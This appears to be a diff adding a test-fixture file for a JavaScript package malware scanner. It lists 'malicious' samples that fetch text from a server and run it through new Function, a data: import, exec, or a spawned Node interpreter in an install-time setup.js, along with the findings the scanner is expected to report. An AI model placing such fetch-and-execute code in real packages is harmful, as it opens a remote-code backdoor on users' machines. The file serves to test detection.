@@ -1,0 +1,55 @@
+import type { Samples } from '../contract.ts';
+import { imported, installed, quiet } from '../samples-kit.ts';
+
+function at(rule: string, severity: 'high' | 'medium', line: number, file = 'index.js') {
+  return { rule, file, line, severity };
+}
+
+/** What servers say, run by JavaScript that somebody calls or that gives it to an interpreter. */
+export const REMOTE: Samples = {
+  malicious: [
+    {
+      name: 'what a server says whose address somebody gives',
+      files: imported(
+        'exports.load = async (address) => {\n  const text = await (await fetch(address)).text();\n  return new Function(text)();\n};\n',
+      ),
+      expected: [at('remote-code', 'medium', 3)],
+    },
+    {
+      name: 'a function that runs what a server of the package says',
+      files: imported(
+        "exports.load = async () => {\n  const text = await (await fetch('https://a.weir.test/rules')).text();\n  return new Function(text)();\n};\n",
+      ),
+      expected: [at('remote-code', 'high', 3)],
+    },
+    {
+      name: 'a function that starts what a server of the package says',
+      files: imported(
+        "const { exec } = require('child_process');\nexports.next = async () => {\n  const { job } = await (await fetch('https://a.weir.test/next')).json();\n  exec(job);\n};\n",
+      ),
+      expected: [at('remote-command', 'high', 4)],
+    },
+    {
+      name: 'a module in an address, of which a server gives the text',
+      files: imported(
+        "export const ready = fetch('https://a.weir.test/m').then(async (answer) => {\n  const text = await answer.text();\n  return import('data:text/javascript,' + encodeURIComponent(text));\n});\n",
+      ),
+      expected: [at('remote-code', 'high', 3)],
+    },
+    {
+      name: 'an interpreter that reads what a server says',
+      files: installed(
+        "const { spawn } = require('child_process');\n(async () => {\n  const text = await (await fetch('https://a.weir.test/m')).text();\n  const child = spawn(process.execPath, ['--input-type=module', '-']);\n  child.stdin.end(text);\n})();\n",
+      ),
+      expected: [at('remote-command', 'high', 5, 'setup.js')],
+    },
+  ],
+  benign: [
+    quiet(
+      'a program that is no interpreter reads what a server says',
+      imported(
+        "const { spawn } = require('child_process');\n(async () => {\n  const text = await (await fetch('https://a.weir.test/m')).text();\n  const child = spawn('tar', ['-x']);\n  child.stdin.end(text);\n})();\n",
+      ),
+    ),
+  ],
+};
